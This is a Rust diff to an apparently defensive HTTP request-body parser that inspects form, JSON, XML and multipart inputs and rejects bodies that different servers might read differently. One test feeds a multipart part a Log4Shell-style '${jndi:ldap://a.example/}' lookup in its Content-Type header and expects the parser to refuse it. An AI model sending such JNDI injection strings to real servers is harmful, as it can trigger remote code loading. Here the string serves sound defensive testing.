@@ -3,13 +3,14 @@
 use bytes::Bytes;
 use serde_json::Value;
 
+use super::content_type::{ContentType, ContentTypeError};
 use super::element::XmlElement;
 use super::error::BodyError;
+use super::input::{Input, InputKind};
 use super::json::{JsonError, has_huge_integer, parse_json};
 use super::limits::StructureLimits;
-use super::media_type::media_type;
 use super::multipart::{self, Part};
-use super::pairs::pairs;
+use super::pairs::{byte_pairs, pairs};
 #[cfg(feature = "xml")]
 use super::xml;
 
@@ -44,31 +45,84 @@ pub fn parse_body(
     if body.is_empty() {
         return Ok(ParsedBody::Empty);
     }
-    let kind = media_type(content_type);
-    Ok(match kind.as_str() {
+    let kind = ContentType::parse(content_type)?;
+    Ok(match kind.essence() {
         "application/x-www-form-urlencoded" => ParsedBody::Form(form(body, limits)?),
-        "multipart/form-data" => ParsedBody::Multipart(multipart::read(content_type, body, limits.members)?),
-        json if json == "application/json" || json == "text/json" || json.ends_with("+json") => {
-            let value = parse_json(body, limits)?;
-            if has_huge_integer(body) {
-                return Err(JsonError::HugeNumber.into());
+        "multipart/form-data" => {
+            let mut parts = multipart::read(content_type, body, limits.members)?;
+            for part in parts.iter_mut().filter(|part| part.is_json() && !part.content.is_empty()) {
+                part.json = Some(json(&part.content, limits)?);
             }
-            ParsedBody::Json(value)
+            ParsedBody::Multipart(parts)
         }
+        _ if kind.is_json() => ParsedBody::Json(json(body, limits)?),
         #[cfg(feature = "xml")]
-        xml if xml == "application/xml" || xml == "text/xml" || xml.ends_with("+xml") => {
-            ParsedBody::Xml(xml::parse(body, limits)?)
-        }
-        // Servers that do not look at the media type read these bodies as JSON or a form all the same, and most put
-        // U+FFFD where a byte is not UTF-8 (Go's encoding/json, Node's Buffer).
-        kind => match body.trim_ascii_start().first() {
-            Some(b'{' | b'[') => {
-                let text = String::from_utf8_lossy(body);
-                parse_json(text.as_bytes(), limits).map_or_else(|_| opaque(kind, body), ParsedBody::Json)
-            }
-            _ => opaque(kind, body),
+        _ if kind.is_xml() => ParsedBody::Xml(xml::parse(body, limits)?),
+        // Servers that do not look at the media type read these bodies as JSON all the same.
+        essence => match lenient_json(body, limits)? {
+            Some(value) => ParsedBody::Json(value),
+            None if is_wide(body) => return Err(ContentTypeError::Charset.into()),
+            None => opaque(essence, body),
         },
     })
+}
+
+/// What a server that does not mind the media type may read in a body besides: JSON under a form's type, a form or XML
+/// under none or under plain text.
+///
+/// # Errors
+/// When such a server may read it in two ways.
+pub fn other_reading(
+    content_type: &[u8],
+    parsed: &ParsedBody,
+    body: &Bytes,
+    limits: StructureLimits,
+) -> Result<Option<ParsedBody>, BodyError> {
+    let kind = ContentType::parse(content_type)?;
+    Ok(match parsed {
+        ParsedBody::Form(_) => lenient_json(body, limits)?.map(ParsedBody::Json),
+        #[cfg(feature = "xml")]
+        ParsedBody::Text if body.trim_ascii_start().starts_with(b"<") => {
+            xml::parse(body, limits).ok().map(ParsedBody::Xml)
+        }
+        ParsedBody::Text if kind.essence().is_empty() && body.contains(&b'=') => {
+            Some(ParsedBody::Form(form(body, limits)?))
+        }
+        _ => None,
+    })
+}
+
+/// JSON that everybody reads alike.
+fn json(text: &[u8], limits: StructureLimits) -> Result<Value, BodyError> {
+    let value = parse_json(text, limits)?;
+    if has_huge_integer(text) { Err(JsonError::HugeNumber.into()) } else { Ok(value) }
+}
+
+/// The JSON in a body of another type; nothing where no server would read any. Most servers put U+FFFD where a byte is
+/// not UTF-8 (Go's encoding/json, Node's Buffer).
+///
+/// # Errors
+/// When it is JSON that is beyond a limit, or not read alike by everybody.
+fn lenient_json(body: &[u8], limits: StructureLimits) -> Result<Option<Value>, BodyError> {
+    if !matches!(body.trim_ascii_start(), [b'{' | b'[', ..]) {
+        return Ok(None);
+    }
+    let text = String::from_utf8_lossy(body);
+    match parse_json(text.as_bytes(), limits) {
+        Ok(value) => Ok(Some(value)),
+        Err(error) if serde_json::from_str::<serde::de::IgnoredAny>(&text).is_ok() => Err(error.into()),
+        Err(_) => Ok(None),
+    }
+}
+
+/// Whether a text begins as UTF-16 or UTF-32 does: some readers of JSON and XML recognize that by themselves.
+fn is_wide(body: &[u8]) -> bool {
+    let opens = |byte: u8| b"{[<\" \t\r\n".contains(&byte);
+    match body {
+        [0xff, 0xfe, ..] | [0xfe, 0xff, ..] | [0, 0, 0xfe, 0xff, ..] => std::str::from_utf8(body).is_err(),
+        [0, 0, 0, first, ..] | [first, 0, ..] | [0, first, ..] => opens(*first),
+        _ => false,
+    }
 }
 
 fn opaque(kind: &str, body: &[u8]) -> ParsedBody {
@@ -104,33 +158,65 @@ fn form(body: &[u8], limits: StructureLimits) -> Result<Vec<(String, String)>, B
 }
 
 impl ParsedBody {
-    /// Calls `each` with every text a person or a program put in, and the name that it stands under; until it
-    /// answers. Names are inputs too.
-    pub fn find_input<T>(&self, raw: &[u8], mut each: impl FnMut(&str, &[u8]) -> Option<T>) -> Option<T> {
+    /// Calls `each` with every text a person or a program put in, until it answers. Names are inputs too.
+    pub fn find_input<T>(&self, raw: &[u8], mut each: impl FnMut(Input<'_>) -> Option<T>) -> Option<T> {
         match self {
             ParsedBody::Empty | ParsedBody::Binary => None,
             ParsedBody::Json(value) => json_inputs("", value, &mut each),
-            ParsedBody::Form(fields) => fields.iter().find_map(|(name, value)| {
-                each(name, value.as_bytes()).or_else(|| each("name", name.as_bytes()))
+            ParsedBody::Form(_) => byte_pairs(raw).find_map(|(name, value)| {
+                let text = String::from_utf8_lossy(&name);
+                each(Input::value(&text, &value)).or_else(|| each(Input::name(&text, &name)))
             }),
             ParsedBody::Xml(root) => root.find_input(&mut each),
-            ParsedBody::Multipart(parts) => parts.iter().find_map(|part| {
-                let file_name = part.file_name.as_deref().and_then(|name| each(&part.name, name.as_bytes()));
-                let content = || (!part.is_file).then(|| each(&part.name, &part.content)).flatten();
-                file_name.or_else(content)
-            }),
-            ParsedBody::Text => each("body", raw),
+            ParsedBody::Multipart(parts) => parts.iter().find_map(|part| part.find_input(&mut each)),
+            ParsedBody::Text => each(Input::value("body", raw)),
         }
     }
 }
 
-fn json_inputs<T>(name: &str, value: &Value, each: &mut impl FnMut(&str, &[u8]) -> Option<T>) -> Option<T> {
+impl Part {
+    /// Its name, its file name, its headers and its content. Scripts send text fields as files called `blob`.
+    fn find_input<T>(&self, each: &mut impl FnMut(Input<'_>) -> Option<T>) -> Option<T> {
+        /// The most text of a file that is judged.
+        const SMALL: usize = 64 << 10;
+        let content = |each: &mut dyn FnMut(Input<'_>) -> Option<T>| {
+            let kind = match &self.file_name {
+                Some(name) if name != "blob" => InputKind::File,
+                _ => InputKind::Value,
+            };
+            if let Some(value) = &self.json {
+                return json_inputs(&self.name, value, &mut |input| each(input));
+            }
+            let is_read = match kind {
+                InputKind::File => {
+                    self.content.len() <= SMALL && !is_binary_file(&self.media_type, &self.content)
+                }
+                _ => !(self.is_file && is_binary_file(&self.media_type, &self.content)),
+            };
+            is_read.then(|| each(Input { name: &self.name, kind, value: &self.content })).flatten()
+        };
+        let headers = |each: &mut dyn FnMut(Input<'_>) -> Option<T>| {
+            let own = ["content-disposition", "content-type", "content-length"];
+            let others =
+                self.headers.iter().filter(|(name, _)| !own.iter().any(|own| own.eq_ignore_ascii_case(name)));
+            others.into_iter().find_map(|(name, value)| each(Input::value(name, value)))
+        };
+        let file_name = self.file_name.as_deref();
+        file_name
+            .and_then(|name| each(Input::value(&self.name, name.as_bytes())))
+            .or_else(|| content(each))
+            .or_else(|| each(Input::name(&self.name, self.name.as_bytes())))
+            .or_else(|| headers(each))
+    }
+}
+
+fn json_inputs<T>(name: &str, value: &Value, each: &mut impl FnMut(Input<'_>) -> Option<T>) -> Option<T> {
     match value {
-        Value::String(text) => each(name, text.as_bytes()),
+        Value::String(text) => each(Input::value(name, text.as_bytes())),
         Value::Array(items) => items.iter().find_map(|item| json_inputs(name, item, each)),
-        Value::Object(map) => map
-            .iter()
-            .find_map(|(key, item)| each("name", key.as_bytes()).or_else(|| json_inputs(key, item, each))),
+        Value::Object(map) => map.iter().find_map(|(key, item)| {
+            each(Input::name(key, key.as_bytes())).or_else(|| json_inputs(key, item, each))
+        }),
         _ => None,
     }
 }
@@ -149,8 +235,9 @@ mod tests {
 
     fn inputs(parsed: &ParsedBody, raw: &str) -> Vec<String> {
         let mut all = Vec::new();
-        parsed.find_input::<()>(raw.as_bytes(), |name, value| {
-            all.push(format!("{name}={}", String::from_utf8_lossy(value)));
+        parsed.find_input::<()>(raw.as_bytes(), |input| {
+            let name = if input.kind == InputKind::Name { "name" } else { input.name };
+            all.push(format!("{name}={}", String::from_utf8_lossy(input.value)));
             None
         });
         all
@@ -162,13 +249,13 @@ mod tests {
             parse("application/problem+json; charset=utf-8", r#"{"a":["x",{"b":"y"}],"n":1}"#).unwrap();
         assert_eq!(inputs(&json, ""), ["name=a", "a=x", "name=b", "b=y", "name=n"]);
         let form = parse("application/x-www-form-urlencoded", "a=x+y&b=%3C").unwrap();
-        assert_eq!(inputs(&form, ""), ["a=x y", "name=a", "b=<", "name=b"]);
+        assert_eq!(inputs(&form, "a=x+y&b=%3C"), ["a=x y", "name=a", "b=<", "name=b"]);
         let xml = "<?xml version='1.0'?><a href='u&#x27;'>t&lt;i&gt;<b><![CDATA[c]]></b></a>";
         let xml = parse("text/xml", xml).unwrap();
         assert_eq!(inputs(&xml, ""), ["href=u'", "name=href", "a=t<i>", "name=a", "b=c", "name=b"]);
         let body = "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"n.txt\"\r\n\r\nbytes\r\n--B\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\nx\r\n--B--\r\n";
         let multipart = parse("multipart/form-data; boundary=B", body).unwrap();
-        assert_eq!(inputs(&multipart, ""), ["f=n.txt", "t=x"]);
+        assert_eq!(inputs(&multipart, ""), ["f=n.txt", "f=bytes", "name=f", "t=x", "name=t"]);
         let disguised = parse("text/plain", r#"{"a":"x"}"#).unwrap();
         assert_eq!(inputs(&disguised, ""), ["name=a", "a=x"]);
     }
@@ -188,9 +275,63 @@ mod tests {
     }
 
     #[test]
+    fn what_a_careless_server_reads_is_read_too() {
+        let other = |kind: &str, body: &[u8]| {
+            let body = Bytes::copy_from_slice(body);
+            let parsed = parse_body(kind.as_bytes(), &body, LIMITS)?;
+            other_reading(kind.as_bytes(), &parsed, &body, LIMITS)
+        };
+        const FORM: &str = "application/x-www-form-urlencoded";
+        let json = ParsedBody::Json(serde_json::json!({ "a": "b&c=d" }));
+        assert_eq!(other(FORM, br#" {"a":"b&c=d"}"#), Ok(Some(json)));
+        let form = ParsedBody::Form(vec![("a".into(), "b c".into())]);
+        assert_eq!(other("", b"a=b+c"), Ok(Some(form)));
+        assert!(matches!(other("text/plain", b"<a>b</a>"), Ok(Some(ParsedBody::Xml(_)))));
+        for (kind, body) in [
+            (FORM, &b"a=b"[..]),
+            (FORM, b"{a=b"),
+            ("text/plain", b"a=b+c"),
+            ("", b"a text"),
+            ("text/plain", b"a < b"),
+            ("application/json", b"{\"a\":1}"),
+        ] {
+            assert_eq!(other(kind, body), Ok(None), "{kind}");
+        }
+        for (kind, body) in [
+            (FORM, &br#"{"a":1,"a":2}"#[..]),
+            ("text/plain", br#"{"a":1,"a":2}"#),
+            ("", b"{\0\"\0a\0\"\0:\x001\0}\0"),
+            ("text/plain", b"\xff\xfe<\0a\0"),
+        ] {
+            assert!(other(kind, body).is_err(), "{kind}");
+        }
+    }
+
+    #[test]
     fn bodies_that_lie_about_themselves_are_refused() {
         assert!(parse("application/json", "{").is_err());
         assert_eq!(parse("multipart/form-data", "x"), Err(MultipartError::Boundary.into()));
+        let part = |head: &str, content: &str| {
+            let body = format!("--B\r\nContent-Disposition: form-data; {head}\r\n\r\n{content}\r\n--B--\r\n");
+            parse("multipart/form-data; boundary=B", &body)
+        };
+        for (head, content) in [
+            ("name=a; filename=\" \"", "x"),
+            ("name=a\r\nContent-Type: ${jndi:ldap://a.example/}", "x"),
+            ("name=a\r\nContent-Type: text/plain; charset=utf-16le", "x"),
+            ("name=a\r\nContent-Transfer-Encoding: quoted-printable", "=27"),
+            ("name=a\r\nContent-Type: application/json", "{\"a\":1,\"a\":2}"),
+            ("name=_charset_", "utf-16"),
+        ] {
+            assert!(part(head, content).is_err(), "{head}");
+        }
+        for (head, content) in [
+            ("name=a\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit", "x"),
+            ("name=a; filename=b.json\r\nContent-Type: application/json", "{\"a\":1}"),
+            ("name=_charset_", "UTF-8"),
+        ] {
+            assert!(part(head, content).is_ok(), "{head}");
+        }
         assert_eq!(
             parse("multipart/form-data; boundary=B", "--B\r\nrubbish"),
             Err(MultipartError::NoEnd.into())
